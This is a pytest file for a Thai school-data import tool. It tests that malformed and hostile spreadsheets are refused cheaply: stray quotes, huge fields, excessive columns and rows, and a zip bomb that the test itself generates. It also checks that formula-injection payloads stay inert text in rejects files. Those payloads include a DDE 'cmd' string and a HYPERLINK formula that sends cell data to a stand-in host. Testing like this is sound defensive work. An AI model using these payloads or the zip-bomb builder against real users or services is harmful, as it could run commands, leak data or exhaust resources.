"""Hostile sheets: each is answered with exit 1 or 2 and a clear message, cheaply.

Every file is made here (the big ones in the test, nothing of size is committed). Each import
runs as its own process under a small wrapper that reports the process's exit code, output,
CPU seconds and peak memory (``getrusage(RUSAGE_CHILDREN)`` of that one child). The bounds are
5 CPU seconds and 300 MB; CPU time, not wall time, so a busy machine does not fail the test
(before the limits these files took 25 s to 123 s and 1.1 GB).
"""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import IO, Any

import openpyxl
import pytest

from nitet.imports.readers import Limits
from test_import import csv_file, records

MEASURE = """
import json, resource, subprocess, sys
r = subprocess.run(sys.argv[1:], capture_output=True, stdin=subprocess.DEVNULL, timeout=300)
u = resource.getrusage(resource.RUSAGE_CHILDREN)
print(json.dumps({"rc": r.returncode, "stdout": r.stdout.decode(), "stderr": r.stderr.decode(),
                  "cpu": u.ru_utime + u.ru_stime, "rss_mb": u.ru_maxrss / 1024}))
"""

CPU_SECONDS = 5.0
RSS_MB = 300.0


def nitet(ws: Path, *args: str) -> dict[str, Any]:
    """Run ``nitet -C ws --no-input ARGS`` in its own process; its exit code, output and costs."""
    cmd = [sys.executable, "-c", MEASURE, sys.executable, "-m", "nitet", "-C", str(ws), "--no-input", *args]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    assert out.returncode == 0, out.stderr
    return dict(json.loads(out.stdout))


def refused(r: dict[str, Any], *words: str) -> None:
    """Exit 1 or 2, the words in the message, no traceback, within the CPU and memory bounds."""
    assert r["rc"] in (1, 2), r
    for w in words:
        assert w in r["stderr"], (w, r["stderr"][-2000:])
    assert "Traceback" not in r["stderr"] and len(r["stderr"]) < 20_000
    assert r["cpu"] < CPU_SECONDS, r["cpu"]
    assert r["rss_mb"] < RSS_MB, r["rss_mb"]


SCHOOL_HEADER = "รหัสโรงเรียน,ชื่อโรงเรียน,อำเภอ"


def school_lines(n: int, start: int = 0) -> list[str]:
    return [f"{1063000000 + i},โรงเรียนบ้านที่{i},แม่สอด" for i in range(start, start + n)]


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("end", ["\r\n", "\n"])
def test_a_stray_quote_rejects_its_row_and_never_swallows_the_next(ws: Path, run: Any, tmp_path: Path,
                                                                  end: str) -> None:
    lines = [SCHOOL_HEADER, *school_lines(3), '1063000003,"บ้านดอยงาม,แม่สอด', *school_lines(3, 4)]
    f = tmp_path / "stray.csv"
    f.write_text(end.join(lines) + end, encoding="utf-8")
    r = run("import", "schools", str(f), "--json", "--skip-invalid")
    assert r.exit_code == 1
    assert [(x["row"], x["reason"]) for x in r.json()["rejected"]] == [
        (5, 'อ่านแถวนี้ไม่ได้: มีเครื่องหมายคำพูด (") ที่ไม่ได้ปิดหรือไม่ได้คู่กัน จึงไม่ได้รวมกับแถวถัดไป')]
    got = records(ws, "schools")
    assert sorted(got) == [str(1063000000 + i) for i in (0, 1, 2, 4, 5, 6)]
    assert got["1063000004"]["name"] == "โรงเรียนบ้านที่4"


def test_a_stray_quote_that_meets_another_does_not_merge_rows(ws: Path, run: Any, tmp_path: Path) -> None:
    """LF line ends: the second stray quote closes the first; the rows between are still rows.
    A cell with a real line break inside (quoted, no delimiter inside) stays one cell."""
    f = tmp_path / "two.csv"
    f.write_text("\n".join([SCHOOL_HEADER, '1063000001,"บ้านดอย,แม่สอด', '1063000002,บ้านห้วย",พบพระ',
                            '1063000003,"โรงเรียนบ้าน\nสองบรรทัด",พบพระ']) + "\n", encoding="utf-8")
    r = run("import", "schools", str(f), "--json", "--skip-invalid")
    assert [x["row"] for x in r.json()["rejected"]] == [2]
    got = records(ws, "schools")
    assert sorted(got) == ["1063000002", "1063000003"]
    assert got["1063000003"]["name"] == "โรงเรียนบ้าน สองบรรทัด"  # a name is one line


def test_the_stray_quote_of_a_long_file_is_found_without_reading_past_it(ws: Path, tmp_path: Path) -> None:
    """Before: exit 3, ``_csv.Error: field larger than field limit``."""
    lines = [SCHOOL_HEADER, '1063000000,"บ้านดอยงาม,แม่สอด', *school_lines(5_000, 1)]
    f = tmp_path / "long.csv"
    f.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    r = nitet(ws, "import", "schools", str(f), "--dry-run", "--json")
    refused(r)
    out = json.loads(r["stdout"])
    assert out["created"] == 5_000 and [x["row"] for x in out["rejected"]] == [2]


def test_a_huge_field_rejects_its_row(ws: Path, tmp_path: Path) -> None:
    f = tmp_path / "huge.csv"
    f.write_text("\r\n".join([SCHOOL_HEADER, *school_lines(2), f'1063000002,"{"ก" * 3_000_000}",แม่สอด',
                              f"1063000003,{'ข' * 3_000_000},แม่สอด", *school_lines(2, 4)]) + "\r\n",
                 encoding="utf-8")
    r = nitet(ws, "import", "schools", str(f), "--json")
    refused(r)
    out = json.loads(r["stdout"])
    assert [x["row"] for x in out["rejected"]] == [4, 5]
    assert all("32,767" in x["reason"] for x in out["rejected"])
    assert out["written"] is False


def test_ragged_rows(ws: Path, run: Any, tmp_path: Path) -> None:
    """A short row is read (its missing cells are empty); a row with cells beyond the header is
    rejected: its cells may have shifted (a comma in a value that is not quoted)."""
    f = tmp_path / "ragged.csv"
    f.write_text("\n".join([SCHOOL_HEADER, "1063000000,โรงเรียนบ้านสั้น", "1063000001,โรงเรียนบ้าน,ใหม่,แม่สอด",
                            "1063000002,โรงเรียนบ้านปกติ,พบพระ,,"]) + "\n", encoding="utf-8")
    r = run("import", "schools", str(f), "--json", "--skip-invalid")
    [bad] = r.json()["rejected"]
    assert bad["row"] == 3 and bad["reason"].startswith("แถวนี้มี 4 ช่อง แต่หัวตารางมี 3 คอลัมน์")
    got = records(ws, "schools")
    assert sorted(got) == ["1063000000", "1063000002"] and "district" not in got["1063000000"]


def test_a_hundred_thousand_columns(ws: Path, tmp_path: Path) -> None:
    """Before: 34 s and 14 MB of column names printed."""
    f = tmp_path / "wide.csv"
    f.write_text(SCHOOL_HEADER + ",x" * 100_000 + "\n" + school_lines(1)[0] + "\n", encoding="utf-8")
    r = nitet(ws, "import", "schools", str(f))
    refused(r, "wide.csv (แถว 1): มี 100,003 คอลัมน์ เกิน 1,000 คอลัมน์ที่ nitet อ่านได้")


def test_rows_beyond_the_limit_and_max_rows(ws: Path, run: Any, tmp_path: Path) -> None:
    f = csv_file(tmp_path / "s.csv", [SCHOOL_HEADER.split(","), *[x.split(",") for x in school_lines(30)]])
    r = run("import", "schools", str(f), "--max-rows", "20")
    assert r.exit_code == 1
    assert "s.csv: มีมากกว่า 20 แถว เกินที่ nitet อ่านได้ต่อชีต" in r.stderr and "--max-rows 40" in r.stderr
    assert not records(ws, "schools")
    assert run("import", "schools", str(f), "--max-rows", "31").exit_code == 0
    assert len(records(ws, "schools")) == 30


def test_a_file_larger_than_the_limit_is_refused_unread(ws: Path, tmp_path: Path) -> None:
    f = tmp_path / "big.csv"
    with f.open("wb") as fh:  # a sparse file: its size, no disk
        fh.write((SCHOOL_HEADER + "\n").encode("utf-8"))
        fh.truncate(Limits().file_bytes + 1)
    r = nitet(ws, "import", "schools", str(f))
    refused(r, "big.csv ใหญ่ 50.0 MB เกินขนาดที่ nitet นำเข้าได้ (50.0 MB)", "--max-rows 200000")


# --------------------------------------------------------------------------- xlsx


def _xlsx_with_sheet(path: Path, write: Callable[[IO[bytes]], None], level: int = 6) -> Path:
    """A real workbook (openpyxl) whose first sheet's XML is written by ``write``."""
    small = path.with_suffix(".small.xlsx")
    openpyxl.Workbook().save(small)
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with dst.open(info.filename, "w", force_zip64=True) as f:
                    write(f)
            else:
                dst.writestr(info, src.read(info.filename))
    small.unlink()
    return path


HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>รหัสโรงเรียน</t></is></c>'
              '<c r="B1" t="inlineStr"><is><t>ชื่อโรงเรียน</t></is></c></row>').encode()


def test_a_zip_bomb(ws: Path, tmp_path: Path) -> None:
    """A ~2 MB file that unpacks past the limit (1 GB took 25 s and 1.1 GB of memory before)."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000
    target = Limits().unpacked_bytes + 30 * 1024 * 1024

    def write(f: IO[bytes]) -> None:
        f.write(HEAD + b"<sheetData>" + HEADER_ROW)
        n = 0
        while n < target:
            f.write(row)
            n += len(row)
        f.write(b"</sheetData></worksheet>")

    f = _xlsx_with_sheet(tmp_path / "bomb.xlsx", write, level=1)
    assert f.stat().st_size < 5 * 1024 * 1024
    r = nitet(ws, "import", "schools", str(f))
    refused(r, "bomb.xlsx (", "เมื่อแตกออกมีขนาด 280.", "เกินที่ nitet อ่านได้ (250.0 MB)")


def test_a_sheet_declaring_a_million_rows(ws: Path, tmp_path: Path) -> None:
    """Formatted empty rows down to the sheet's end, as a careless 'format the whole column'
    leaves them (123 s before). Refused from the declared size, before any row is read."""
    def write(f: IO[bytes]) -> None:
        f.write(HEAD + b'<dimension ref="A1:B1048575"/><sheetData>' + HEADER_ROW)
        f.write('<row r="2"><c r="A2" t="inlineStr"><is><t>1063000000</t></is></c>'
                '<c r="B2" t="inlineStr"><is><t>โรงเรียนบ้านหนึ่ง</t></is></c></row>'.encode())
        for start in range(3, 1_048_576, 50_000):
            f.write("".join(f'<row r="{i}" s="0" customFormat="1"/>'
                            for i in range(start, min(start + 50_000, 1_048_576))).encode())
        f.write(b"</sheetData></worksheet>")

    f = _xlsx_with_sheet(tmp_path / "tall.xlsx", write)
    r = nitet(ws, "import", "schools", str(f))
    refused(r, "tall.xlsx#Sheet: ชีตนี้ระบุขนาด A1:B1048575 เกิน 100,000 แถวที่ nitet อ่านได้ต่อชีต",
            "--max-rows 200000", "ลบแถวว่าง")


def test_a_sheet_without_its_size_is_counted_as_it_is_read(ws: Path, run: Any, tmp_path: Path) -> None:
    def write(f: IO[bytes]) -> None:
        f.write(HEAD + b"<sheetData>" + HEADER_ROW)
        for i in range(2, 60):
            f.write(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{1063000000 + i}</t></is></c>'
                    f'<c r="B{i}" t="inlineStr"><is><t>โรงเรียนบ้านที่{i}</t></is></c></row>'.encode())
        f.write(b"</sheetData></worksheet>")

    f = _xlsx_with_sheet(tmp_path / "nosize.xlsx", write)
    r = run("import", "schools", str(f), "--max-rows", "40")
    assert r.exit_code == 1 and "nosize.xlsx#Sheet: มีมากกว่า 40 แถว" in r.stderr
    assert run("import", "schools", str(f), "--max-rows", "59").exit_code == 0
    assert len(records(ws, "schools")) == 58


def test_a_sheet_wider_than_the_limit(ws: Path, tmp_path: Path) -> None:
    def write(f: IO[bytes]) -> None:
        f.write(HEAD + b'<dimension ref="A1:XFD2"/><sheetData>' + HEADER_ROW + b"</sheetData></worksheet>")

    r = nitet(ws, "import", "schools", str(_xlsx_with_sheet(tmp_path / "wide.xlsx", write)))
    refused(r, "wide.xlsx#Sheet: มี A1:XFD2 คอลัมน์ เกิน 1,000 คอลัมน์")


# --------------------------------------------------------------------------- formulas


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"คลิก\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3"]


def test_the_rejects_file_never_holds_a_formula(ws: Path, run: Any, tmp_path: Path) -> None:
    """Rows rejected (a code too short) carry formula-like text: the CSV gets export csv's
    leading ', the xlsx keeps them as text; the CSV imports back to the same text."""
    rows = [["รหัสโรงเรียน", "ชื่อโรงเรียน", "อำเภอ"], *[["123", f, "แม่สอด"] for f in FORMULAS]]
    src = csv_file(tmp_path / "f.csv", rows)
    out_csv, out_xlsx = tmp_path / "rejects.csv", tmp_path / "rejects.xlsx"
    assert run("import", "schools", str(src), "--rejects", str(out_csv)).exit_code == 1
    assert run("import", "schools", str(src), "--rejects", str(out_xlsx)).exit_code == 1
    text = out_csv.read_text(encoding="utf-8-sig")
    for f in FORMULAS:
        assert f"'{f}" in text.replace('""', '"')
    sheet = openpyxl.load_workbook(out_xlsx).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value in FORMULAS]
    assert len(cells) == len(FORMULAS) and all(c.data_type == "s" for c in cells)
    # the school fixes the codes and sends the CSV back: the names are the texts as they were
    fixed = out_csv.read_text(encoding="utf-8-sig").replace("\n123,", "\n1063000001,", 1)
    back = tmp_path / "back.csv"
    back.write_text(fixed, encoding="utf-8-sig")
    r = run("import", "schools", str(back), "--json", "--skip-invalid")
    assert r.json()["created"] == 1, r.stderr
    assert records(ws, "schools")["1063000001"]["name"] == FORMULAS[0]


def test_an_unreadable_pupil_row_keeps_its_whole_table_out(ws: Path, run: Any, tmp_path: Path) -> None:
    """The row might be a pupil of any class in the table: no class is counted without it."""
    run("school", "add", "--code", "1063020130", "--name", "โรงเรียนบ้านแม่ละเมา", "--district", "ท่าสองยาง")
    f = tmp_path / "pupils.csv"
    f.write_text("\r\n".join(["โรงเรียน,ปีการศึกษา,ภาคเรียน,ชั้น,อ่านออกเสียง,เขียนคำ",
                              "1063020130,2569,1,ป.1,ดี,ดี", '1063020130,2569,1,"ป.1,ดีมาก,ดี',
                              "1063020130,2569,1,ป.2,ดีมาก,พอใช้"]) + "\r\n", encoding="utf-8")
    r = run("import", "screening", str(f), "--json", "--skip-invalid")
    assert r.exit_code == 1
    rej = {x["row"]: x["reason"] for x in r.json()["rejected"]}
    assert sorted(rej) == [2, 3, 4] and "แถว 3 ของตารางเดียวกันอ่านไม่ได้" in rej[4]
    assert not records(ws, "screenings")
